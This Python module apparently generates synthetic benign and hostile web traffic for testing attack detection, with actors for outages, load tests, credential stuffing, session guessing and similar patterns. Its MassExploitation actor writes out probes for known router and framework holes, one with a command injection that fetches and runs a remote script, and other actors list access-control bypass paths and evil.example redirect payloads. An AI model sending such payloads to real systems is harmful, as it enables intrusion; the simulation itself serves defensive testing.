"""Actors of other kinds than the first three sets have, written before it was known what is said of them."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote

from .asking import (
    BROWSERS,
    MINUTE,
    WORDS,
    Actor,
    Crowd,
    Sent,
    every,
    failed_login,
    in_order,
    item,
    logged_in,
    missing,
    page,
    public,
)

PHONE = "ExampleApp/8.0 (Android 15)"


class OneTenantsOutage(Crowd):
    """Sixty people of one customer whose database is down: whatever they ask for is answered with 503."""

    seconds = 12 * MINUTE
    people = 60

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        address, agent = public(number, "203.40"), chance.choice(BROWSERS)
        for at in every(8, self.seconds, chance, 0.6):
            status = 503 if 2 * MINUTE < at < 9 * MINUTE else 200
            yield Sent(at, address, "/api/state", status, "/api/state", agent=agent)


class PerformanceTest(Actor):
    """The owner's load test: from two requests a second to fifteen, over six minutes, of one page and its search."""

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        at = 0.0
        while at < 6 * MINUTE:
            at += chance.uniform(0.8, 1.2) / (2 + 13 * at / (6 * MINUTE))
            query = f"q={chance.choice(WORDS)}"
            yield Sent(at, "203.0.140.2", "/search", route="/search", agent="k6/1.0", query=query)


class PasswordOfAServiceRotated(Actor):
    """Three machines with a service's former password, each of which tries again every twenty seconds."""

    seconds = 40 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(20 / 3, self.seconds, chance, 0.05)):
            sent = Sent(at, f"203.0.140.{10 + number % 3}", "/oauth/token", 401, "/oauth/token", "POST", "billing/4")
            yield sent._replace(credentials="Basic YmlsbGluZzpvbGQ=")


class RedirectLoop(Crowd):
    """Twenty-five browsers without cookies: the page sends them to the login, which sends them back, twenty times."""

    people = 25

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        address, agent = public(number, "203.41"), chance.choice(BROWSERS)
        for start in every(90, self.seconds, chance, 0.5):
            for hop in range(20):
                path = "/login" if hop % 2 else "/account"
                yield Sent(start + hop * 0.15, address, path, 303, path, agent=agent)


class MailImageProxy(Actor):
    """The four machines by which a mail provider shows pictures: each reader of a newsletter has one of his own."""

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for reader, at in enumerate(every(0.25, self.seconds, chance, 0.9)):
            address, path = f"203.0.140.{20 + reader % 4}", f"/open/{reader}"
            yield Sent(at, address, path, route="/open/{reader}", agent="Mozilla/5.0 (via ImageProxy)")


class Wallboards(Actor):
    """A dozen screens in one office that each look every second whether something has changed."""

    seconds = 20 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(1 / 12, self.seconds, chance, 0.5)):
            path, status = f"/api/boards/{number % 12}", 200 if chance.random() < 0.1 else 304
            yield Sent(at, "203.0.140.30", path, status, "/api/boards/{board}", agent=BROWSERS[20])


class SensorsReconnect(Actor):
    """Three hundred sensors behind five addresses whose sockets are refused for a minute after a restart."""

    seconds = 8 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        sensors = []
        for number in range(300):
            own = random.Random(chance.random())
            sensors.append(self.sensor(f"203.0.140.{40 + number % 5}", own))
        yield from in_order(*sensors)

    def sensor(self, address: str, chance: random.Random) -> Iterator[Sent]:
        at, pause = MINUTE + chance.uniform(0, 2), 2.0
        while at < 2 * MINUTE:
            yield Sent(at, address, "/telemetry", 403, "/telemetry", agent="sensor/2")
            at += pause * chance.uniform(0.5, 1.5)
            pause = min(pause * 2, 30)
        yield Sent(at, address, "/telemetry", 101, "/telemetry", agent="sensor/2")


class IdempotentSync(Actor):
    """A nightly job that offers all rows again: of six in seven the application says that it has them."""

    seconds = 8 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for at in every(0.35, self.seconds, chance):
            sent = Sent(at, "203.0.140.50", "/api/items", 201, "/api/items", "POST", "sync/3", credentials="Bearer s")
            yield sent if chance.random() < 1 / 7 else sent._replace(status=409)


class BrokenLinkInANewsletter(Crowd):
    """Four hundred readers of a link that leads nowhere, which some write otherwise and try again."""

    seconds = 15 * MINUTE
    people = 400

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        address, agent, at = public(number, "203.42"), chance.choice(BROWSERS), chance.triangular(0, 12 * MINUTE, 60)
        for path in ("/offers/spring", "/offers/spring/", "/offers", "/spring")[: chance.randrange(1, 5)]:
            yield missing(at, address, path, agent)
            at += chance.uniform(3, 12)
        yield from page(at, address, "start", agent)


class NotebookThatReadsAll(Actor):
    """An analyst with a token, whom the application doesn't name, and who loads nine hundred data sets."""

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(0.33, 5 * MINUTE, chance)):
            sent = Sent(at, "203.0.140.60", f"/datasets/{number}", route="/datasets/{dataset}", agent="pandas/2.2")
            yield sent._replace(credentials="Bearer analyst")


class ClocksThatDiffer(Crowd):
    """Forty people of one office whose one-time codes come from phones with a clock that is late."""

    seconds = 20 * MINUTE
    people = 40

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        at, address, agent = chance.triangular(0, 15 * MINUTE, 5 * MINUTE), "203.0.140.70", chance.choice(BROWSERS)
        yield logged_in(at, address, agent)
        for _ in range(chance.randrange(3)):
            at += chance.uniform(10, 30)
            yield Sent(at, address, "/second-factor", 422, "/second-factor", "POST", agent)
        yield Sent(at + 20, address, "/second-factor", 200, "/second-factor", "POST", agent)
        for _ in range(8):
            at += chance.uniform(20, 60)
            yield item(at, address, chance.randrange(300), agent=agent)


class Hackathon(Crowd):
    """Fifty developers behind one address who learn an interface: three requests in ten are wrong in some way."""

    seconds = 20 * MINUTE
    people = 50

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        agent = chance.choice(("python-httpx/0.28", "curl/8.9", "axios/1.7", *BROWSERS[:6]))
        for at in every(12, self.seconds, chance, 0.8):
            name, address = chance.choice(WORDS[:30]), "203.0.140.80"
            wrong = chance.choice((400, 401, 404, 405, 422)) if chance.random() < 0.3 else 200
            method = chance.choice(("GET", "GET", "POST"))
            if wrong == 404 and chance.random() < 0.5:
                yield missing(at, address, f"/v2/{name}/{chance.choice(WORDS[:12])}", agent)
            else:
                path = f"/v2/{name}/{chance.randrange(50)}"
                yield Sent(at, address, path, wrong, f"/v2/{name}/{{number}}", method, agent)


BENIGN: tuple[type[Actor], ...] = (
    OneTenantsOutage,
    PerformanceTest,
    PasswordOfAServiceRotated,
    RedirectLoop,
    MailImageProxy,
    Wallboards,
    SensorsReconnect,
    IdempotentSync,
    BrokenLinkInANewsletter,
    NotebookThatReadsAll,
    ClocksThatDiffer,
    Hackathon,
)


class GuessingAtThreeDoors(Actor):
    """One address that tries the form, the interface and the back office in turn, one guess in fifteen seconds."""

    seconds = 30 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        doors = (("/login", 401), ("/api/token", 400), ("/admin/login", 403))
        for number, at in enumerate(every(15, self.seconds, chance)):
            path, status = doors[number % 3]
            yield failed_login(at, "192.0.5.1", BROWSERS[7], status, path)


class StuffingThatReads(Crowd):
    """Four hundred home addresses, each with one try after a page, and two items after it, within half an hour."""

    seconds = 30 * MINUTE
    people = 400

    def person(self, number: int, chance: random.Random) -> Iterator[Sent]:
        address, agent, at = public(number, "192.40"), chance.choice(BROWSERS), chance.uniform(0, 28 * MINUTE)
        yield from page(at, address, "start", agent)
        yield failed_login(at + chance.uniform(5, 20), address, agent)
        for _ in range(2):
            at += chance.uniform(21, 40)
            yield item(at, address, chance.randrange(500), agent=agent)


class SessionsGuessed(Actor):
    """Another session's cookie three times a second, each of which is sent to the login."""

    seconds = 8 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for at in every(1 / 3, self.seconds, chance):
            yield Sent(at, "192.0.5.3", "/account", 303, "/account", agent=BROWSERS[11])


class KeysInTheQuery(Actor):
    """Another API key every two seconds, in the query, answered with 403."""

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for at in every(2, self.seconds, chance):
            query = f"api_key={chance.getrandbits(128):032x}"
            yield Sent(at, "192.0.5.4", "/v1/account", 403, "/v1/account", agent="python-httpx/0.28", query=query)


class MassExploitation(Actor):
    """Sixty addresses with one request each, for holes of routers, of consoles and of other people's frameworks."""

    seconds = 20 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        holes = (
            ("/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(wget http://192.0.2.9/a -O-|sh)"),
            ("/boaform/admin/formLogin", "username=ec8&psd=ec8"),
            ("/actuator/gateway/routes", ""),
            ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
            ("/solr/admin/info/system", "wt=json"),
            ("/_ignition/execute-solution", ""),
            ("/HNAP1/", ""),
            ("/hudson/script", ""),
            ("/owa/auth/x.js", ""),
            ("/geoserver/web/", ""),
        )
        for number, at in enumerate(every(20, self.seconds, chance)):
            path, query = holes[number % len(holes)]
            yield missing(at, public(number, "192.41"), path, "Mozilla/5.0")._replace(query=quote(query, safe="=&"))


class WaysAroundForbidden(Actor):
    """Writes the path of a closed page in sixty ways, two a second."""

    seconds = 2 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        before = ("/", "//", "/./", "/;/", "/%2e/", "/x/..;/")
        after = ("", "/", "/.", "..;/", "%20", "%09", "?", ".json", "~", "/*")
        forms = [f"{one}admin{other}" for one in before for other in after]
        for form, at in zip(forms, every(0.5, self.seconds, chance), strict=False):
            status, route = (403, "/admin") if form in ("/admin", "/admin/") else (404, None)
            yield Sent(at, "192.0.5.6", form, status, route, agent="Mozilla/5.0")


class RedirectTargets(Actor):
    """Tries to which addresses a sign-on sends people back, one in three seconds; each is refused."""

    seconds = 8 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        forms = ("https://evil.example/{}", "https://app.example.{}.evil.example", "//evil.example/{}", "app:{}@evil")
        for number, at in enumerate(every(3, self.seconds, chance)):
            target = quote(forms[number % 4].format(number), safe="")
            query = f"client_id=web&response_type=code&redirect_uri={target}"
            yield Sent(at, "192.0.5.7", "/oauth/authorize", 400, "/oauth/authorize", agent=BROWSERS[3], query=query)


class TenantsByName(Actor):
    """Looks which customers there are, by names, one in four seconds; one in eight is there."""

    seconds = 20 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(4, self.seconds, chance)):
            name, status = f"{WORDS[number % 90]}-{WORDS[number * 7 % 83]}", 200 if chance.random() < 1 / 8 else 404
            yield Sent(at, "192.0.5.8", f"/t/{name}", status, "/t/{tenant}", agent=BROWSERS[12])


class RaceForACoupon(Actor):
    """One coupon, forty times at once, of which one is taken; again after half a minute with the next."""

    seconds = 3 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for start in range(5, 150, 30):
            for number in range(40):
                sent = Sent(start + number * 0.01, "192.0.5.9", "/coupons/redeem", 409, "/coupons/redeem", "POST")
                yield sent._replace(status=200) if number == 0 else sent


class AccountsFromAList(Actor):
    """Somebody with a list of right passwords: comes in, looks at the account, goes out, every eight seconds."""

    seconds = 30 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(8, self.seconds, chance)):
            address, agent, user = "192.0.5.10", BROWSERS[14], f"user {number}"
            yield logged_in(at, address, agent)._replace(login=(user, True))
            yield Sent(at + 1, address, "/account", 200, "/account", agent=agent, user=user)
            yield Sent(at + 2, address, "/logout", 303, "/logout", "POST", agent, user=user)


class SpamFromManyAddresses(Actor):
    """Fifty addresses that leave two comments a second among them; one in five is refused."""

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for at in every(0.5, self.seconds, chance):
            status = 422 if chance.random() < 0.2 else 201
            address, agent = public(chance.randrange(50), "192.42"), chance.choice(BROWSERS)
            yield Sent(at, address, "/comments", status, "/comments", "POST", agent)


class BasicFromThirtyAddresses(Actor):
    """Thirty addresses that guess what opens the figures for monitoring, each once a minute."""

    seconds = 15 * MINUTE

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        for number, at in enumerate(every(2, self.seconds, chance)):
            sent = Sent(at, public(number % 30, "192.43"), "/metrics", 401, "/metrics", agent="curl/8.9")
            yield sent._replace(credentials=f"Basic {chance.getrandbits(64):x}")


ATTACKS: tuple[type[Actor], ...] = (
    GuessingAtThreeDoors,
    StuffingThatReads,
    SessionsGuessed,
    KeysInTheQuery,
    MassExploitation,
    WaysAroundForbidden,
    RedirectTargets,
    TenantsByName,
    RaceForACoupon,
    AccountsFromAList,
    SpamFromManyAddresses,
    BasicFromThirtyAddresses,
)
